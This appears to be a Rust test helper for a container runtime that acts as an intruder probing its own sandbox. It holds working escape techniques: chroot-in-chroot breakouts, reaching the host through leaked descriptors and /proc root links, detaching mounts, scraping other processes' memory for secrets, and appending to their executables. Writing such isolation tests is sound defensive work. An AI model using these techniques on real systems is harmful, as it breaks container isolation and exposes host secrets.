//! What an attacker runs in a container: looks for a way to the host, and prints each that it finds.
//!
//!   intruder hunt SECRET     in every other process that it sees, until /stop is there
//!   intruder escape SECRET   by the classics of leaving a chroot, once
//!
//! SECRET is the path of a file of the host, which the environment of the runtime's caller has in it. Nothing printed means nothing found.

use std::collections::BTreeSet;
use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::FileExt;
use std::path::{Path, PathBuf};

use dhow_tests::rustix::mount::{UnmountFlags, unmount};
use dhow_tests::rustix::process::{chdir, chroot};

/// More files than this of others' are not held at once.
const HELD: usize = 64;
/// No more of an area of memory is looked at.
const LARGEST: u64 = 256 * 1024;
/// Enough to get from anywhere to a root.
const UP: &str = "../../../../../../../../../../..";

fn main() {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    let words: Vec<&str> = arguments.iter().map(String::as_str).collect();
    match words.as_slice() {
        ["hunt", secret] => hunt(secret),
        ["escape", secret] => escape(secret),
        _ => println!("unknown words: {words:?}"),
    }
}

/// Looks into processes until it is told to stop.
fn hunt(secret: &str) {
    let mut found = BTreeSet::new();
    let mut held = Vec::new();
    while !Path::new("/stop").exists() {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let name = entry.file_name();
            let number = name.to_str().and_then(|name| name.parse::<u32>().ok());
            if number.is_some_and(|pid| pid != std::process::id()) {
                look_into(&entry.path(), secret, &mut held, &mut found);
            }
        }
        held.retain(|(file, link)| !overwrite(file, link, &mut found));
    }
    for finding in found {
        println!("{finding}");
    }
}

/// Looks into one process.
fn look_into(
    process: &Path,
    secret: &str,
    held: &mut Vec<(File, PathBuf)>,
    found: &mut BTreeSet<String>,
) {
    for place in ["root", "cwd"] {
        if fs::read(process.join(place).join(UP).join(secret.trim_start_matches('/'))).is_ok() {
            found.insert(format!("the host by the {place} of a process"));
        }
    }
    let exe = process.join("exe");
    let program = || fs::read_link(&exe).ok().filter(|link| !is_ours(link));
    if let Some(link) = program() {
        if let Ok(file) = File::open(&exe)
            && held.len() < HELD
        {
            held.push((file, link.clone()));
        }
        if remembers(process, secret) {
            found.insert(format!("the caller's environment in a process of {}", link.display()));
        }
    }
    for entry in fs::read_dir(process.join("fd")).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.join(UP).join(secret.trim_start_matches('/')).exists() {
            let link = fs::read_link(&path).unwrap_or_default();
            found.insert(format!("the host by the descriptor of {}", link.display()));
        }
    }
}

/// Whether the writable memory of a process has the secret's path in it: the caller's environment does.
fn remembers(process: &Path, secret: &str) -> bool {
    let Ok(memory) = File::open(process.join("mem")) else { return false };
    let maps = fs::read_to_string(process.join("maps")).unwrap_or_default();
    let area = |line: &str| {
        let mut words = line.split(' ');
        let (from, to) = words.next()?.split_once('-')?;
        let (from, to) = (u64::from_str_radix(from, 16).ok()?, u64::from_str_radix(to, 16).ok()?);
        words.next()?.starts_with("rw").then_some((from, (to - from).min(LARGEST)))
    };
    maps.lines().filter_map(area).any(|(from, length)| {
        let mut bytes = vec![0; length as usize];
        let count = memory.read_at(&mut bytes, from).unwrap_or(0);
        let bytes = bytes.get(..count).unwrap_or_default();
        bytes.windows(secret.len()).any(|part| part == secret.as_bytes())
    })
}

/// A program of the container's own.
fn is_ours(link: &Path) -> bool {
    link.starts_with("/bin") || link.starts_with("/intruder")
}

/// Tries to write to a program that another process runs or ran.
fn overwrite(program: &File, link: &Path, found: &mut BTreeSet<String>) -> bool {
    let path = format!("/proc/self/fd/{}", program.as_raw_fd());
    let Ok(mut file) = OpenOptions::new().append(true).open(path) else { return false };
    if file.write_all(b"#").is_ok() {
        found.insert(format!("the program {} can be written to", link.display()));
        return true;
    }
    false
}

/// Tries to leave the root, by descriptors that were left open, by a chroot in the chroot, and by taking
/// away what is mounted.
fn escape(secret: &str) {
    let tell = |way: &str| {
        let above = Path::new(UP).join(secret.trim_start_matches('/'));
        if fs::read(secret).is_ok() || fs::read(above).is_ok() {
            println!("the host by {way}");
        }
    };
    for number in 0..1024 {
        let below = Path::new("/proc/self/fd").join(number.to_string());
        if fs::read(below.join(UP).join(secret.trim_start_matches('/'))).is_ok() {
            println!("the host by descriptor {number}");
        }
    }
    // Whoever is not in the root that he has can go up without end (chroot(2)).
    let _ = fs::create_dir("/jail");
    if chdir("/").and_then(|()| chroot("/jail")).is_ok() {
        for _ in 0..100 {
            let _ = chdir("..");
        }
        tell("a chroot in the chroot");
        let _ = chroot(".");
        tell("a chroot out of the chroot");
    }
    let mounts = fs::read_to_string("/proc/self/mountinfo").unwrap_or_default();
    let points = mounts.lines().filter_map(|line| line.split(' ').nth(4));
    for point in points.collect::<Vec<_>>().into_iter().rev().chain(["/", ".", "/.."]) {
        let _ = unmount(point, UnmountFlags::DETACH);
        let _ = chdir("/..").and_then(|()| chroot("."));
        tell(&format!("taking away {point}"));
    }
}
